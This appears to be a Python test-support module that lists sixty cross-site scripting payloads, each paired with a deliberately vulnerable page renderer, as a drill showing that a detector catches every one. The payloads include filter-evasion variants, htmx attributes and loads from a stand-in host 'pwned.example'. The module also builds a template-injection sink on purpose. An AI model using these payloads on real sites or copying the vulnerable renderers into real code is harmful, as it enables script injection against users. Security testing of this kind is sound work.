"""Sixty texts that run, load or break something wherever they are put on a page as they are.

Each calls `pwned()`, or leaves an element, an attribute, an address or a word behind that
`tests/support/running_text.py` looks for. `shown_by` is the faulty page on which it does so: that all sixty are noticed
there is tested, or a drill in which none is noticed would say nothing.
"""

from __future__ import annotations

import html
import json
import unicodedata
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import unquote

from jinja2 import Environment

OUTSIDE = "//pwned.example"
"""Where some of them load from or lead to; nobody there is ever asked."""
RENDERED = "PWNED"
"""What a template makes of a text that it takes for one of its own."""
Page = Callable[[str], str]


def _page(pattern: str) -> Page:
    return lambda text: f"<!doctype html><title>x</title><body>{pattern.replace('@', text)}"


IN_TEXT, IN_TITLE = _page("<p>@</p>"), _page("</body><title>@</title>")
IN_DOUBLE, IN_SINGLE, IN_BARE = (
    _page('<input value="@">'),
    _page("<input value='@'>"),
    _page("<input value=@>"),
)
IN_AREA, IN_COMMENT, IN_STYLE = (
    _page("<textarea>@</textarea>"),
    _page("<!-- @ -->"),
    _page("<style>@</style>"),
)
IN_LINK, IN_FORM, IN_FRAME = (
    _page('<a href="@">x</a>'),
    _page('<form action="@"></form>'),
    _page('<iframe src="@"></iframe>'),
)
IN_SCRIPT, IN_QUOTED = _page("<script>var x = '@'</script>"), _page('<script>var x = "@"</script>')
IN_BACKTICKS, IN_HANDLER = (
    _page("<script>var x = `@`</script>"),
    _page("<img src=x: onerror=\"var x = '@'\">"),
)
IN_NOSCRIPT = _page("<noscript><p title='@'></p></noscript>")


def decoded(text: str) -> str:
    """A page that undoes the escaping of a text that stands on it."""
    return IN_TEXT(html.unescape(text))


def decoded_address(text: str) -> str:
    """A page that shows a piece of an address."""
    return IN_TEXT(unquote(text))


def normalised(text: str) -> str:
    """A page that makes letters alike after it escaped them."""
    return IN_TEXT(unicodedata.normalize("NFKC", html.escape(text)))


def read_as_json(text: str) -> str:
    """A page whose text was read once more than it was written."""
    return IN_TEXT(str(json.loads(f'"{text}"')))


def taken_for_a_template(text: str) -> str:
    """A page that was made from what somebody typed."""
    return IN_TEXT(Environment().from_string(text).render())  # noqa: S701  the fault that is looked for


@dataclass(frozen=True, slots=True)
class Payload:
    """One text, and the page that is at fault when it does something."""

    text: str
    shown_by: Page = IN_TEXT


PAYLOADS = (
    # Elements that run of themselves.
    Payload("<script>pwned()</script>"),
    Payload("<ScRiPt >pwned()</sCrIpT >"),
    Payload("<script/x>pwned()</script/x>"),
    Payload("<<script>pwned()//<</script>"),
    Payload(f"<script src={OUTSIDE}/1.js></script>"),
    Payload("<img src=x: onerror=pwned()>"),
    Payload("<img/src='x:'/onerror=pwned()>"),
    Payload("<IMG SRC=x: OnErRoR\n=\npwned()>"),
    Payload("<svg onload=pwned()>"),
    Payload("<svg/onload=pwned()//"),
    Payload("<svg><script>pwned()</script></svg>"),
    Payload("<svg><a xlink:href=javascript:pwned()><text y=9>x</text></a></svg>"),
    Payload("<svg><animate onbegin=pwned() attributeName=x dur=1s>"),
    Payload("<math><a href=javascript:pwned()>x</a></math>"),
    Payload("<details open ontoggle=pwned()>x</details>"),
    Payload("<input autofocus onfocus=pwned()>"),
    Payload("<video><source onerror=pwned()></video>"),
    Payload("<audio src=x: onerror=pwned()></audio>"),
    Payload("<body onload=pwned()>"),
    Payload("<body onpageshow=pwned()>"),
    Payload("<marquee onstart=pwned()>x</marquee>"),
    Payload("<iframe srcdoc='<script>parent.pwned()</script>'></iframe>"),
    Payload("<iframe src=javascript:parent.pwned()></iframe>"),
    Payload("<object data=javascript:pwned()></object>"),
    Payload(f"<embed src={OUTSIDE}/2>"),
    Payload("<style>@keyframes x{}</style><p style='animation:x 1ms' onanimationstart=pwned()>x</p>"),
    # What leads astray, or waits for a finger.
    Payload("<meta http-equiv=refresh content='0;url=javascript:pwned()'>"),
    Payload(f"<base href={OUTSIDE}/>"),
    Payload(f"<link rel=stylesheet href={OUTSIDE}/3.css>"),
    Payload("<form action=javascript:pwned()><button>x</button></form>"),
    Payload("<button form=x formaction=javascript:pwned()>x</button>"),
    Payload("<p onmouseover=pwned() onpointerenter=pwned()>x</p>"),
    Payload("<a href='jav&#x09;ascript:pwned()'>x</a>"),
    # What htmx would obey.
    Payload("<p hx-on:click='pwned()' hx-on::load='pwned()'>x</p>"),
    Payload(f"<p hx-get={OUTSIDE}/4 hx-trigger=load>x</p>"),
    Payload("<p hx-get=/ hx-trigger=load hx-vals='js:{x:pwned()}'>x</p>"),
    # Out of where a text stands.
    Payload('"><script>pwned()</script>', IN_DOUBLE),
    Payload('" autofocus onfocus="pwned()', IN_DOUBLE),
    Payload("'><img src=x: onerror=pwned()>", IN_SINGLE),
    Payload("' onfocus='pwned()' autofocus='", IN_SINGLE),
    Payload("x autofocus onfocus=pwned()", IN_BARE),
    Payload("</title><script>pwned()</script>", IN_TITLE),
    Payload("</textarea><img src=x: onerror=pwned()>", IN_AREA),
    Payload("--><script>pwned()</script>", IN_COMMENT),
    Payload("--!><script>pwned()</script>", IN_COMMENT),
    Payload("</style><script>pwned()</script>", IN_STYLE),
    Payload("</noscript><img src=x: onerror=pwned()>", IN_NOSCRIPT),
    Payload("</script><script>pwned()</script>", IN_SCRIPT),
    Payload("';pwned();//", IN_SCRIPT),
    Payload('";pwned();//', IN_QUOTED),
    Payload("${pwned()}", IN_BACKTICKS),
    Payload("&#39;;pwned();//", IN_HANDLER),
    # As an address.
    Payload("javascript:pwned()", IN_LINK),
    Payload("\x01 JaVa\tScRiPt:pwned()//", IN_FORM),
    Payload("data:text/html,<script>pwned()</script>", IN_FRAME),
    # For who undoes an escaping, or takes a text for a template.
    Payload("&lt;script&gt;pwned()&lt;/script&gt;", decoded),
    Payload("%3Cscript%3Epwned()%3C/script%3E", decoded_address),
    Payload("＜script＞pwned()＜/script＞", normalised),
    Payload("\\u003cscript\\u003epwned()\\u003c/script\\u003e", read_as_json),
    Payload("{{ 'PWN' ~ 'ED' }}", taken_for_a_template),
)
TOGETHER = 6
"""How many of them one field holds at a time, unless it holds them all."""
ALL = " ".join(payload.text for payload in PAYLOADS)
ROUNDS = -(-len(PAYLOADS) // TOGETHER)


def together(number: int) -> str:
    """Some of them as one text, those that are addresses first; ROUNDS numbers in a row make all of them."""
    return " ".join(payload.text for payload in PAYLOADS[number % ROUNDS :: ROUNDS])
